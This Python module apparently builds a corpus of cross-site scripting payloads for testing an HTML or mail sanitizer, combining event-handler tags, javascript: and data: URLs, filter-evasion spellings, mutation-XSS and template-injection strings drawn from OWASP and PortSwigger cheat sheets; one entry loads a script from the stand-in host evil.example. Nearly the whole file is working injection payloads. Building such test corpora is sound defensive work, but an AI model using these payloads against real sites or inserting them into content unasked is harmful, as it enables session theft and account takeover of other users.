"""What has made other inboxes run a stranger's script: tags, handlers, addresses, open quotes.

After OWASP's filter evasion cheat sheet and PortSwigger's, put together rather than written out.
"""

from collections.abc import Iterator

SCRIPT = "top.pwned=1;alert(1)"

_HANDLERS = (
    ("img src=x", "onerror"),
    ("img src=x", "OnErRoR"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video autoplay src=data:,", "onloadstart"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("div contenteditable tabindex=0 autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("p style=animation:x", "onanimationstart"),
    ("p style=transition:all", "ontransitionend"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("form", "onformdata"),
    ("button popovertarget=x", "onbeforetoggle"),
    ("a href=#", "onpointerenter"),
    ("math", "onmouseover"),
)
_SPELLINGS = (
    "<{tag} {handler}={script}>",
    '<{tag} {handler}="{script}">',
    "<{tag}/{handler}='{script}'//",
    '"><{tag} {handler}={script}>',
    "</title></style></textarea></script><{tag}\n{handler}\n=\n{script}>",
    "<{tag} {handler}=&#116;op.pwned=1>",
)
_ADDRESSES = (
    "javascript:{script}",
    "JaVaScRiPt:{script}",
    " javascript:{script}",
    "java\tscript:{script}",
    "java&#10;script:{script}",
    "javascript&colon;{script}",
    "&#106;avascript:{script}",
    "\x01javascript:{script}",
    "vbscript:{script}",
    "data:text/html,<script>{script}</script>",
    "data:image/svg+xml,<svg onload='{script}'/>",
    "blob:{script}",
)
_CARRIERS = (
    '<a href="{address}">x</a>',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button>x</button></form>',
    '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
    "[x]({address})",
)
_OTHERS = (
    "<script>{script}</script>",
    "<ScRiPt>{script}</sCrIpT>",
    "<scr<script>ipt>{script}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>{script}</script>",
    '<meta http-equiv="refresh" content="0;url=javascript:{script}">',
    '<base href="javascript:/a/-{script}/">',
    "<iframe srcdoc='<script>{script}</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror={script}&gt;'></iframe>",
    "<svg><script>{script}</script></svg>",
    "<svg><animate onbegin={script} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{script} /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{script}'/>#x\"></svg>",
    "<svg><foreignObject><iframe onload={script}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={script}>",
    "<math href='javascript:{script}'>x</math>",
    '<noscript><p title="</noscript><img src=x onerror={script}>">',
    "<template><img src=x onerror={script}></template>",
    "<style>@import 'javascript:{script}';</style>",
    '<div style="background:url(javascript:{script})">',
    '<div style="width:expression({script})">',
    "<!--><img src=x onerror={script}>-->",
    "<![CDATA[<img src=x onerror={script}>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{script}</x:script>",
    "{{{{constructor.constructor('{script}')()}}}}",
    "${{{script}}}",
    "'-{script}-'",
    "\\'-{script}//",
    "</script><script>{script}</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<xss style='behavior:url(x.htc)'>",
    "&lt;script&gt;{script}&lt;/script&gt;",
    "%3Cscript%3E{script}%3C/script%3E",
    "＜script＞{script}＜/script＞",
)


def payloads() -> list[str]:
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for tag, handler in _HANDLERS:
        for spelling in _SPELLINGS:
            yield spelling.format(tag=tag, handler=handler, script=SCRIPT)
    for carrier in _CARRIERS:
        for address in _ADDRESSES:
            yield carrier.format(address=address.format(script=SCRIPT))
    for other in _OTHERS:
        yield other.format(script=SCRIPT)
